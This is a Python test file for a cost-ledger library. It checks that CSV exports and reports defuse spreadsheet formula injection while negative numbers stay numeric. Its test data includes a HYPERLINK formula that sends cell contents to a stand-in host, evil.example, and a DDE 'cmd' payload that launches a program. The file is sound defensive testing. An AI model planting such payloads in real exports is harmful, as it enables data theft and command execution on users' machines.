"""CSV exports never carry a spreadsheet formula (found by an outside review).

A prompt (or a model, mode or task id written by a library caller) that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return became a live formula when the CSV was opened
in Excel, LibreOffice or Google Sheets (``=HYPERLINK(...)`` sends data out, ``=cmd|...`` runs
commands). Such text cells are written with a leading ``'``; numbers (a negative drift) stay
numbers, and JSON Lines keep the text exactly."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from typer.testing import CliRunner

from kling_cost import export_charges, report
from kling_cost.cli import app
from kling_cost.ledger import Ledger
from tests.ledger.conftest import clock, ledger, ledger_url

__all__ = ["clock", "ledger", "ledger_url"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _seed(ledger: Ledger) -> None:
    for i, text in enumerate(FORMULAS):
        res = ledger.reserve(
            Decimal("5"),
            ["project:x"],
            metadata={"prompt": text, "model": text, "mode": "=1+1" if i == 0 else "pro"},
        )
        ledger.attach_task(res, f"-{i}+1" if i else "=task")
        ledger.commit(res, Decimal("4"))  # drift -1: a negative number, not text


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _safe(value: str) -> bool:
    return not value.startswith(DANGEROUS)


def test_export_csv_cells_are_never_formulas(ledger: Ledger) -> None:
    _seed(ledger)
    out = io.StringIO()
    assert export_charges(ledger, out, "csv") == len(FORMULAS)
    rows = _cells(out.getvalue())
    for row in rows:
        assert all(_safe(v) for v in row.values()), row
    assert sorted(r["prompt_preview"][1:] for r in rows) == sorted(FORMULAS)
    assert {r["model"][1:] for r in rows} == set(FORMULAS)
    assert {r["credits"] for r in rows} == {"4"}
    lines = io.StringIO()
    export_charges(ledger, lines, "jsonl")
    assert sorted(json.loads(line)["prompt_preview"] for line in lines.getvalue().splitlines()) == sorted(
        FORMULAS
    )


def test_report_csv_keys_are_never_formulas_and_numbers_stay_numbers(ledger: Ledger) -> None:
    _seed(ledger)
    result = CliRunner().invoke(
        app,
        ["report", "--by", "model,mode", "--since", "2026-06-01", "--format", "csv", "--ledger", ledger.url],
    )
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert _safe(row["model"]) and _safe(row["mode"]), row
        assert row["drift"] == "-1"  # a negative amount is a number: no quote
    assert {r["model"][1:] for r in rows} == set(FORMULAS)
    assert report(ledger, "model", since="2026-06-01").rows[0].drift == Decimal("-1.000")


def test_export_command_csv_is_safe(ledger: Ledger) -> None:
    _seed(ledger)
    result = CliRunner().invoke(
        app, ["export", "--format", "csv", "--since", "2026-06-01", "--ledger", ledger.url]
    )
    assert result.exit_code == 0, result.output
    for row in _cells(result.stdout):
        assert all(_safe(v) for v in row.values()), row
